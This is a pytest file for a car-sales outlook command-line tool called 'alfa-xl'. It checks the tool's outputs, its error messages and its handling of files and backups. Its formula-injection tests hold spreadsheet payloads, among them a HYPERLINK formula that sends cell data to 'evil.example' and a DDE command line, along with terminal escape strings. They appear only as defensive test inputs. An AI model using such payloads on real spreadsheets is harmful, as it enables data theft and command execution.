"""Tests of the ``alfa-xl`` command line, through the installed entry point and in process."""

from __future__ import annotations

import io
import json
import math
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from alfa_xl.cli import main
from alfa_xl.cli.outlook import TIDY_COLUMNS
from alfa_xl.model.lineup import default_lineup

LATEST = 73_000.0
JUNIOR_PEAK = 33_000.0
MODELS = list(default_lineup().names)


def run(*args: str, exe: list[str] | None = None) -> subprocess.CompletedProcess:
    cmd = (exe or [sys.executable, "-m", "alfa_xl.cli"]) + list(args)
    return subprocess.run(cmd, capture_output=True, text=True, timeout=120)


def strict_json(text: str):
    def no_constants(name):
        raise ValueError(f"{name} is not valid JSON")

    return json.loads(text, parse_constant=no_constants)


@pytest.fixture(scope="module")
def outlook_json():
    done = run("outlook", "--format", "json")
    assert done.returncode == 0, done.stderr
    return strict_json(done.stdout)


class TestThroughTheEntryPoint:
    def test_table(self):
        done = run("outlook")
        assert done.returncode == 0 and done.stderr == ""
        out = done.stdout
        for text in ("Units by model, scenario base", "Scenarios in 2030 against 400,000", "Gap to 400,000, scenario base",
                     "What it takes to reach 400,000 in 2030", "Junior-like launches", *MODELS, "track_record"):
            assert text in out

    def test_installed_script(self):
        exe = shutil.which("alfa-xl")
        assert exe, "the alfa-xl script is not installed (pip install -e .)"
        done = run("facts", "--format", "json", exe=[exe])
        assert done.returncode == 0
        facts = strict_json(done.stdout)
        assert {"key": "global_units_2025", "value": 73000.0}.items() <= facts[0].items()

    def test_json_content(self, outlook_json):
        d = outlook_json
        assert d["inputs"]["start_year"] == 2026 and d["inputs"]["end_year"] == 2030 and d["inputs"]["target"] == 400_000
        assert d["inputs"]["latest_actual"] == {"year": 2025, "units": LATEST}
        assert [r["Year"] for r in d["projection"]] == [2026, 2027, 2028, 2029, 2030]
        assert d["history"][-1] == {"Year": 2025, "Actual": LATEST}
        for r in d["projection"]:
            assert r["Total"] == pytest.approx(sum(r[m] for m in MODELS))
        for r in d["by_region"]:
            assert r["Total"] == pytest.approx(r["Italy"] + r["Rest of Europe"] + r["North America"] + r["Rest of world"])
        assert [r["Scenario"] for r in d["compare"]] == ["base", "bear", "bull", "plan", "track_record"]
        for r in d["gap"]:
            assert r["Gap"] == pytest.approx(400_000 - r["Projection"])
            assert r["Growth required"] == pytest.approx((400_000 / LATEST) ** (1 / (r["Year"] - 2025)) - 1)
        k = d["what_it_takes"]
        total_2030 = d["projection"][-1]["Total"]
        assert k["gap"] == pytest.approx(400_000 - total_2030)
        # extra Junior-like launches in 2029 sell the Junior's peak in 2030 (flat market)
        assert k["extra_launches"] == pytest.approx((400_000 - total_2030) / JUNIOR_PEAK)
        assert k["extra_launches_needed"] == math.ceil(k["extra_launches"])
        assert k["with_seed_guess"] == pytest.approx(total_2030 + 3 * JUNIOR_PEAK)

    def test_csv_reads_back(self):
        done = run("outlook", "--format", "csv", "--scenario", "bear", "--end", "2032")
        assert done.returncode == 0
        t = pd.read_csv(io.StringIO(done.stdout))
        assert tuple(t.columns) == TIDY_COLUMNS
        assert t["value"].dtype == float  # numbers only; empty = none
        assert t.set_index(["section", "item"]).loc[("what_it_takes", "reference:Junior"), "value"] == JUNIOR_PEAK
        assert set(t["section"]) == {"history", "projection", "by_region", "compare", "gap", "what_it_takes"}
        hist = t[t["section"] == "history"].set_index("year")["value"]
        assert hist[2025] == LATEST and hist[2002] == 190_000
        proj = t[t["section"] == "projection"]
        assert set(proj["scenario"]) == {"bear"} and sorted(set(proj["year"])) == list(range(2026, 2033))
        by_year = proj.pivot(index="year", columns="item", values="value")
        assert by_year["Total"].to_numpy() == pytest.approx(by_year[MODELS].sum(axis=1).to_numpy())
        compare = t[t["section"] == "compare"]
        assert set(compare["year"]) == {2032} and len(set(compare["scenario"])) == 5

    def test_plot_is_a_png(self, tmp_path):
        target = tmp_path / "outlook.png"
        done = run("outlook", "--plot", str(target), "--end", "2035")
        assert done.returncode == 0, done.stderr
        data = target.read_bytes()
        assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 20_000
        assert "Chart written to" in done.stdout

    def test_bad_input_through_the_entry_point(self):
        done = run("outlook", "--scenario", "optimistic")
        assert done.returncode == 2 and done.stdout == ""
        assert done.stderr.strip().splitlines() == [
            "alfa-xl: error: scenario: unknown scenario (got 'optimistic'); use one of base, bear, bull, plan, track_record"
        ]


def write(path, text):
    path.write_text(text, encoding="utf-8")
    return str(path)


LINEUP_HEAD = "model,launch_year,peak_units,share_italy,share_rest_of_europe,share_north_america,share_rest_of_world\n"


def bad_cases(tmp):
    return [
        (["outlook", "--scenario", "nope"], "unknown scenario (got 'nope'); use one of base"),
        (["outlook", "--start", "abc"], "--start"),
        (["outlook", "--start", "1999"], "start_year: outside the supported years (got 1999)"),
        (["outlook", "--end", "2061"], "end_year: outside the supported years (got 2061)"),
        (["outlook", "--start", "2030", "--end", "2026"], "end_year: before the start year (got 2026); give an end year on or after"),
        (["outlook", "--target", "-5"], "target: must be a number above 0 (got -5.0)"),
        (["outlook", "--target", "0"], "target: must be a number above 0 (got 0.0)"),
        (["outlook", "--target", "nan"], "target: must be a number above 0"),
        (["outlook", "--lineup", str(tmp / "missing.csv")], "lineup file: not found"),
        (["outlook", "--lineup", write(tmp / "cols.csv", "model,peak_units\nA,5\n")], "add the column(s) launch_year"),
        (["outlook", "--lineup", write(tmp / "shares.csv", LINEUP_HEAD + "A,2027,5000,0.5,0.5,0.5,0\n")],
         "regional shares of 'A': do not sum to 1 (got 1.5)"),
        (["outlook", "--lineup", write(tmp / "dup.csv", LINEUP_HEAD + "A,2027,5000,1,0,0,0\na,2028,5000,1,0,0,0\n")],
         "model: duplicate model name (got 'a'); give every model a unique name"),
        (["outlook", "--lineup", write(tmp / "neg.csv", LINEUP_HEAD + "A,2027,-5000,1,0,0,0\n")], "peak_units of 'A'"),
        (["outlook", "--lineup", write(tmp / "text.csv", LINEUP_HEAD + "A,2027,many,1,0,0,0\n")], "peak_units of 'A': not a number (got 'many')"),
        (["outlook", "--scenario", str(tmp / "none.csv")], "scenario file: not found"),
        (["outlook", "--scenario", write(tmp / "param.csv", "parameter,value\nspeed,3\n")], "parameter: unknown parameter (got 'speed')"),
        (["outlook", "--scenario", write(tmp / "model.csv", "parameter,value\ncancel,Alfetta\n")],
         "cancel: unknown model (got 'Alfetta'); use a model in the lineup"),
        (["outlook", "--scenario", write(tmp / "delay.csv", "parameter,value\ndelay:Junior,1\n")], "delay only planned models"),
        (["outlook", "--plot", str(tmp / "no" / "x.png")], "plot: folder not found"),
        (["outlook", "--plot", str(tmp / "x.txt")], "plot: unsupported file type"),
        (["outlook", "--format", "xml"], "--format"),
        (["facts", "--format", "xml"], "--format"),
        (["forecast"], "No such command"),
    ]


class TestInProcess:
    def test_every_bad_input_is_one_line_and_exit_2(self, tmp_path, capsys):
        for args, fragment in bad_cases(tmp_path):
            code = main(args)
            out, err = capsys.readouterr()
            assert code == 2, args
            assert out == "", args
            lines = err.strip().splitlines()
            assert len(lines) == 1 and lines[0].startswith("alfa-xl: error: "), (args, err)
            assert fragment in lines[0], (args, lines[0])
            assert "Traceback" not in err

    def test_custom_lineup_and_scenario(self, tmp_path, capsys):
        lineup = write(tmp_path / "l.csv", LINEUP_HEAD + "Junior,2020,50000,1,0,0,0\nNew,2027,100000,0,1,0,0\n")
        scenario = write(tmp_path / "s.csv", "parameter,value\nname,late\ndelay:New,1\n")
        code = main(["outlook", "--lineup", lineup, "--scenario", scenario, "--start", "2027", "--end", "2029",
                     "--target", "200000", "--format", "json"])
        out, _ = capsys.readouterr()
        assert code == 0
        d = strict_json(out)
        assert d["inputs"]["scenario"] == "late" and d["inputs"]["lineup"] == lineup
        junior = [50_000 * (0.5 + 0.5 * math.exp(-0.7 * a)) for a in (6, 7, 8)]  # ages 7-9 of the default curve,
        junior = [j * 0.85 ** max(0, a - 7) for j, a in zip(junior, (7, 8, 9))]  # decline from age 7 at 15%
        new = [0, 50_000, 100_000]  # delayed a year: launch 2028 (half year), peak 2029
        assert [r["Total"] for r in d["projection"]] == pytest.approx([j + n for j, n in zip(junior, new)])
        assert [r["Scenario"] for r in d["compare"]] == ["base", "bear", "bull", "plan", "track_record", "late"]
        assert d["what_it_takes"]["reference_model"] == "Junior"

    def test_history_years_give_null_not_nan(self, capsys):
        assert main(["outlook", "--start", "2024", "--end", "2026", "--format", "json"]) == 0
        d = strict_json(capsys.readouterr().out)
        assert d["gap"][0]["Growth required"] is None and d["gap"][2]["Growth required"] is not None

    def test_plot_without_matplotlib(self, tmp_path, capsys, monkeypatch):
        for name in ("matplotlib", "matplotlib.figure", "matplotlib.backends", "matplotlib.backends.backend_agg"):
            monkeypatch.setitem(sys.modules, name, None)  # makes "import matplotlib..." fail
        target = tmp_path / "x.png"
        assert main(["outlook", "--plot", str(target)]) == 2
        err = capsys.readouterr().err
        assert err.strip() == ('alfa-xl: error: plot: matplotlib is not installed (got \'matplotlib\'); '
                               'install the plot extra: pip install "alfa-xl[plot]"')
        assert not target.exists()

    def test_facts_csv(self, capsys):
        assert main(["facts", "--format", "csv"]) == 0
        t = pd.read_csv(io.StringIO(capsys.readouterr().out))
        assert list(t.columns) == ["key", "value", "unit", "as_of", "source", "note"]
        assert t.set_index("key").loc["target_units", "value"] == 400_000

    def test_facts_table(self, capsys):
        assert main(["facts"]) == 0
        out = capsys.readouterr().out
        assert "global_units_2025" in out and "73,000" in out and "auto-medienportal" in out

    def test_help_and_no_arguments(self, capsys):
        assert main(["--help"]) == 0
        assert "outlook" in capsys.readouterr().out
        assert main(["outlook", "--help"]) == 0
        assert "--scenario" in capsys.readouterr().out
        assert main([]) == 2


# -- the typed outlook result and its renderers ----------------------------------------------------------
class TestOutlookResult:
    def test_result_is_read_only_and_rendered_as_built(self, capsys):
        import dataclasses

        from rich.console import Console

        from alfa_xl.cli.outlook_render import outlook_csv, outlook_json, render_outlook
        from alfa_xl.cli.outlook_result import build_outlook

        o = build_outlook("base", end_year=2030)
        with pytest.raises(dataclasses.FrozenInstanceError):
            o.target = 1.0
        with pytest.raises(dataclasses.FrozenInstanceError):
            o.takes.gap = 1.0
        # the renderers show what the result says and compute nothing themselves
        odd = dataclasses.replace(o, takes=dataclasses.replace(o.takes, peak_multiplier=1.2345, extra_launches=7.5,
                                                               extra_launches_needed=8))
        console = Console(width=200, file=io.StringIO())
        render_outlook(odd, console)
        text = console.file.getvalue()
        assert "x 1.23" in text and "7.50 -> 8 models" in text
        assert strict_json(outlook_json(odd))["what_it_takes"]["peak_multiplier"] == 1.2345
        t = pd.read_csv(io.StringIO(outlook_csv(odd)))
        assert t.set_index(["section", "item"]).loc[("what_it_takes", "extra_launches"), "value"] == 7.5

    def test_cli_modules_examples_run(self):
        import doctest
        import importlib

        for name in ("alfa_xl.cli.common", "alfa_xl.cli.outlook_result"):
            result = doctest.testmod(importlib.import_module(name))
            assert result.attempted > 0 and result.failed == 0, name


# -- what it takes when the scenario is already above the target -------------------------------------------
class TestAlreadyAboveTarget:
    def test_table_says_so_instead_of_a_negative_multiplier(self, capsys):
        assert main(["outlook", "--target", "100"]) == 0
        out = capsys.readouterr().out
        takes = out[out.index("What it takes to reach 100 in 2030"):]
        assert takes.count("already above target") == 2
        assert "x -" not in out and "x 0." not in takes

    def test_json_and_csv(self, capsys):
        assert main(["outlook", "--target", "100", "--format", "json"]) == 0
        k = strict_json(capsys.readouterr().out)["what_it_takes"]
        assert k["above_target"] is True and k["peak_multiplier"] is None and k["extra_launches"] == 0
        assert k["gap"] == pytest.approx(100 - k["projection"]) and k["gap"] < 0
        assert main(["outlook", "--target", "1000000", "--format", "json"]) == 0
        k = strict_json(capsys.readouterr().out)["what_it_takes"]
        assert k["above_target"] is False and k["peak_multiplier"] > 1
        assert main(["outlook", "--target", "100", "--format", "csv"]) == 0
        t = pd.read_csv(io.StringIO(capsys.readouterr().out)).set_index(["section", "item"])["value"]
        assert t[("what_it_takes", "above_target")] == 1.0 and math.isnan(t[("what_it_takes", "peak_multiplier")])


# -- nothing typed into a name reaches a spreadsheet as a formula or the terminal as markup ----------------
EVIL_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB=1+1",
    "\rCR=1+1",
]


def evil_lineup(tmp, names=EVIL_NAMES) -> str:
    rows = [LINEUP_HEAD.strip(), "Junior,2024,33000,1,0,0,0"]
    for i, name in enumerate(names):
        quoted = '"' + name.replace('"', '""') + '"'
        rows.append(f"{quoted},{2027 + i % 3},{5000 + i},0.5,0.2,0.2,0.1")
    return write(tmp / "evil.csv", "\n".join(rows) + "\n")


def csv_text_fields(text: str) -> list[str]:
    import csv

    out = []
    for row in csv.reader(io.StringIO(text)):
        for field in row:
            try:
                float(field)
            except ValueError:
                out.append(field)
    return out


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class TestFormulaInjection:
    def test_outlook_csv_writes_names_as_text(self, tmp_path, capsys):
        from alfa_xl.model.lineup import load_lineup

        path = evil_lineup(tmp_path)
        names = load_lineup(path).names  # as the loader keeps them
        scenario = write(tmp_path / "s.csv", 'parameter,value\nname,"=1+1"\n')
        assert main(["outlook", "--lineup", path, "--scenario", scenario, "--format", "csv"]) == 0
        text = capsys.readouterr().out
        fields = csv_text_fields(text)
        live = [f for f in fields if f.startswith(FORMULA_STARTS)]
        assert live == []
        risky = [n for n in names if n.startswith(FORMULA_STARTS)]
        assert len(risky) >= 5  # the loader kept most of them: the rule had work to do
        for name in risky:
            assert "'" + name in fields, name
        assert "'=1+1" in fields  # the scenario name
        # numbers are still numbers (a negative gap is not text)
        assert main(["outlook", "--lineup", path, "--target", "100", "--format", "csv"]) == 0
        t = pd.read_csv(io.StringIO(capsys.readouterr().out))
        assert t["value"].dtype == float and (t["value"] < 0).any()

    def test_simulate_csv_writes_text_as_text(self, tmp_path, capsys):
        path = evil_lineup(tmp_path)
        assert main(["simulate", "-n", "200", "--lineup", path, "--format", "csv"]) == 0
        fields = csv_text_fields(capsys.readouterr().out)
        assert fields and [f for f in fields if f.startswith(FORMULA_STARTS)] == []
        assert "'+4 yr" in fields or any(f.startswith("'+") or f.startswith("'-") for f in fields)

    def test_markup_and_control_characters_print_as_typed(self, tmp_path, capsys):
        names = ["[/]", "[link=http://evil.example]click[/link]", "[bold red]loud", "esc\x1b[31mred\x1b]8;;http://x\x07"]
        folder = tmp_path / "[" / "]folder"  # the path itself holds "[/]"
        folder.mkdir(parents=True)
        path = evil_lineup(folder, names)
        chart = folder / "[b]chart.png"
        assert main(["outlook", "--lineup", path, "--plot", str(chart)]) == 0
        out, err = capsys.readouterr()
        assert err == "" and chart.is_file()
        assert "\x1b" not in out and "\x07" not in out
        for text in ("[/]", "[link=http://evil.example]click[/link]", "[bold red]loud", "esc\\x1b[31mred", str(chart)):
            assert text in out, text
        assert main(["simulate", "-n", "100", "--lineup", path, "--scenario",
                     write(folder / "s.csv", "parameter,value\nname,[/]x\x1b[2J\n")]) == 0
        out = capsys.readouterr().out
        assert "\x1b" not in out and "[/]x\\x1b[2J" in out

    def test_error_lines_show_control_characters_written_out(self, tmp_path, capsys):
        assert main(["outlook", "--scenario", "moon\x1b[2J"]) == 2
        err = capsys.readouterr().err
        assert "\x1b" not in err and len(err.strip().splitlines()) == 1


# -- files: one line and exit 2 for whatever the system refuses -------------------------------------------
@pytest.fixture
def readonly_folder(tmp_path):
    """A folder in which nobody, root included, can create a file (immutable as root, 0o555 otherwise)."""
    import os

    folder = tmp_path / "readonly"
    folder.mkdir()
    yield_cleanup = []
    if os.geteuid() == 0:
        done = subprocess.run(["chattr", "+i", str(folder)], capture_output=True)
        if done.returncode != 0:
            pytest.skip("cannot make a read-only folder here (chattr +i refused)")
        yield_cleanup.append(["chattr", "-i", str(folder)])
    else:
        folder.chmod(0o555)
    try:
        (folder / "probe").touch()
    except OSError:
        pass
    else:
        pytest.skip("this file system lets the folder be written")
    try:
        yield folder
    finally:
        for cmd in yield_cleanup:
            subprocess.run(cmd, capture_output=True)
        folder.chmod(0o755)


def one_line(capsys, code, *fragments):
    out, err = capsys.readouterr()
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("alfa-xl: error: "), err
    assert "Traceback" not in err
    for f in fragments:
        assert f in lines[0], (f, lines[0])
    return lines[0]


class TestFileErrors:
    def test_unreadable_lineup_and_scenario(self, capsys):
        # /proc/self/mem exists and is a file, but reading it from the start fails for everyone
        one_line(capsys, main(["outlook", "--lineup", "/proc/self/mem"]), "lineup file: cannot read", "/proc/self/mem")
        one_line(capsys, main(["simulate", "--lineup", "/proc/self/mem"]), "lineup file: cannot read")
        one_line(capsys, main(["outlook", "--scenario", "/proc/self/mem"]), "scenario file: cannot read")

    def test_plot_into_places_that_refuse(self, tmp_path, capsys, readonly_folder):
        (tmp_path / "taken.png").mkdir()
        one_line(capsys, main(["outlook", "--plot", str(tmp_path / "taken.png")]), "plot: is a folder")
        one_line(capsys, main(["outlook", "--plot", "/proc/chart.png"]), "plot: ", "/proc/chart.png")
        one_line(capsys, main(["outlook", "--plot", str(readonly_folder / "chart.png")]), "plot: cannot write")
        one_line(capsys, main(["simulate", "-n", "50", "--plot", str(readonly_folder / "fan.png")]), "plot: cannot write")

    def test_build_workbook_onto_a_folder_or_into_a_read_only_one(self, tmp_path, capsys, readonly_folder):
        (tmp_path / "book.xlsm").mkdir()
        one_line(capsys, main(["build-workbook", "--out", str(tmp_path / "book.xlsm")]), "out: is a folder")
        one_line(capsys, main(["build-workbook", "--out", str(readonly_folder / "book.xlsm")]), "out: ")
        assert list(readonly_folder.iterdir()) == []

    def test_refresh_in_a_read_only_folder(self, tmp_path, capsys):
        import os

        folder = tmp_path / "books"
        book = folder / "book.xlsm"
        assert main(["build-workbook", "--out", str(book)]) == 0
        capsys.readouterr()
        before = book.read_bytes()
        if os.geteuid() == 0:
            if subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode != 0:
                pytest.skip("cannot make a read-only folder here")
        else:
            folder.chmod(0o555)
        try:
            one_line(capsys, main(["refresh", str(book)]), "book.xlsm")
        finally:
            subprocess.run(["chattr", "-i", str(folder)], capture_output=True)
            folder.chmod(0o755)
        assert book.read_bytes() == before and sorted(p.name for p in folder.iterdir()) == ["book.py", "book.xlsm"]

    def test_text_the_terminal_cannot_show(self, tmp_path):
        import os

        path = write(tmp_path / "l.csv", LINEUP_HEAD + "Junior,2024,33000,1,0,0,0\nGiulia \u00e9\u00e8\u4e2d,2027,5000,1,0,0,0\n")
        env = dict(os.environ, PYTHONIOENCODING="ascii")
        done = subprocess.run([sys.executable, "-m", "alfa_xl.cli", "outlook", "--lineup", path],
                              capture_output=True, text=True, timeout=120, env=env)
        assert done.returncode == 2 and "Traceback" not in done.stderr
        assert done.stderr.strip().splitlines() == [
            "alfa-xl: error: output: the terminal's encoding ascii cannot show '\\xe9\\xe8\\u4e2d'; "
            "use a UTF-8 terminal or set PYTHONIOENCODING=utf-8"]
        # JSON escapes non-ASCII text, so it needs no UTF-8 terminal
        done = subprocess.run([sys.executable, "-m", "alfa_xl.cli", "outlook", "--lineup", path, "-f", "json"],
                              capture_output=True, text=True, timeout=120, env=env)
        assert done.returncode == 0 and "Giulia \\u00e9\\u00e8\\u4e2d" in done.stdout


class TestInterrupt:
    def test_ctrl_c_exits_130_with_one_line(self):
        import signal
        import time

        proc = subprocess.Popen([sys.executable, "-m", "alfa_xl.cli", "simulate", "-n", "1000000", "--end", "2060",
                                 "-f", "json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        time.sleep(3.0)  # well past the imports: the simulation of 35 years runs for several seconds
        assert proc.poll() is None, "finished before it could be interrupted"
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=60)
        assert proc.returncode == 130
        assert err == "alfa-xl: interrupted\n" and out == ""


# -- build-workbook writes only what it owns -------------------------------------------------------------
class TestBuildWorkbookWritesOnlyWhatItOwns:
    def test_default_is_the_current_folder_never_the_installation(self, tmp_path, monkeypatch, capsys):
        import alfa_xl

        install = Path(alfa_xl.__file__).resolve().parent
        before = sorted(p.name for p in install.iterdir())
        monkeypatch.chdir(tmp_path)
        assert main(["build-workbook"]) == 0
        assert sorted(p.name for p in tmp_path.iterdir()) == ["alfa_outlook.py", "alfa_outlook.xlsm"]
        assert sorted(p.name for p in install.iterdir()) == before
        assert "checks: OK" in capsys.readouterr().out
        one_line(capsys, main(["build-workbook", "--out", str(install / "x.xlsm")]), "inside the alfa_xl installation")
        one_line(capsys, main(["build-workbook", "--out", str(install / "book" / "x.xlsm"), "--force"]),
                 "inside the alfa_xl installation")
        assert not (install / "x.xlsm").exists() and not (install / "book" / "x.xlsm").exists()

    @pytest.mark.parametrize("name", ["x.py", "book.xlsx", "book", "report.XLS"])
    def test_only_xlsm(self, tmp_path, capsys, name):
        one_line(capsys, main(["build-workbook", "--out", str(tmp_path / name)]), "not a .xlsm file")
        assert list(tmp_path.iterdir()) == []

    def test_a_module_of_the_same_name_is_not_replaced(self, tmp_path, capsys):
        mine = write(tmp_path / "report.py", "print('my own script')\n")
        one_line(capsys, main(["build-workbook", "--out", str(tmp_path / "report.xlsm")]), "would replace report.py", "--force")
        assert Path(mine).read_text() == "print('my own script')\n"
        assert sorted(p.name for p in tmp_path.iterdir()) == ["report.py"]

    def test_an_existing_workbook_needs_force_and_keeps_a_backup(self, tmp_path, capsys):
        book = tmp_path / "book.xlsm"
        assert main(["build-workbook", "--out", str(book)]) == 0
        capsys.readouterr()
        old_book, old_module = b"previous workbook bytes", "previous module\n"
        book.write_bytes(old_book)
        (tmp_path / "book.py").write_text(old_module)
        one_line(capsys, main(["build-workbook", "--out", str(book)]), "would replace book.xlsm and book.py")
        assert book.read_bytes() == old_book
        assert main(["build-workbook", "--out", str(book), "--force"]) == 0
        assert "previous versions kept as book.xlsm.bak, book.py.bak" in capsys.readouterr().out
        assert (tmp_path / "book.xlsm.bak").read_bytes() == old_book
        assert (tmp_path / "book.py.bak").read_text() == old_module
        assert book.read_bytes()[:2] == b"PK"  # a zip package again
        assert sorted(p.name for p in tmp_path.iterdir()) == ["book.py", "book.py.bak", "book.xlsm", "book.xlsm.bak"]

    @pytest.mark.parametrize("lock", ["~$book.xlsm", ".~lock.book.xlsm#"])
    def test_lock_files_are_honoured_even_with_force(self, tmp_path, capsys, lock):
        book = tmp_path / "book.xlsm"
        book.write_bytes(b"open in a spreadsheet")
        (tmp_path / lock).write_text("owner")
        for force in ([], ["--force"]):
            one_line(capsys, main(["build-workbook", "--out", str(book), *force]), "open in Excel or LibreOffice", lock)
        assert book.read_bytes() == b"open in a spreadsheet"
        assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["book.xlsm", lock])

    def test_a_backup_name_that_is_a_link_is_not_followed(self, tmp_path, capsys):
        import os

        book = tmp_path / "book.xlsm"
        book.write_bytes(b"old")
        victim = tmp_path / "victim.txt"
        victim.write_text("keep me")
        os.symlink(victim, tmp_path / "book.xlsm.bak")
        one_line(capsys, main(["build-workbook", "--out", str(book), "--force"]), "backup name taken")
        assert victim.read_text() == "keep me" and book.read_bytes() == b"old"

    def test_a_linked_workbook_is_refused(self, tmp_path, capsys):
        import os

        real = tmp_path / "real.xlsm"
        real.write_bytes(b"real")
        os.symlink(real, tmp_path / "link.xlsm")
        one_line(capsys, main(["build-workbook", "--out", str(tmp_path / "link.xlsm"), "--force"]), "not a plain file")
        assert real.read_bytes() == b"real"

    def test_a_crash_while_backing_up_keeps_the_previous_backup(self, tmp_path, monkeypatch):
        import alfa_xl.cli.workbook as wb

        book = tmp_path / "book.xlsm"
        book.write_bytes(b"new contents " * 1000)
        (tmp_path / "book.xlsm.bak").write_bytes(b"previous good backup")

        def half_then_crash(src, dst, *args):
            dst.write(src.read(100))
            raise KeyboardInterrupt  # the process is stopped mid-copy

        monkeypatch.setattr(wb.shutil, "copyfileobj", half_then_crash)
        with pytest.raises(KeyboardInterrupt):
            wb.keep_backup(book)
        assert (tmp_path / "book.xlsm.bak").read_bytes() == b"previous good backup"
        assert sorted(p.name for p in tmp_path.iterdir()) == ["book.xlsm", "book.xlsm.bak"]  # no debris
        monkeypatch.undo()
        assert wb.keep_backup(book).read_bytes() == book.read_bytes()
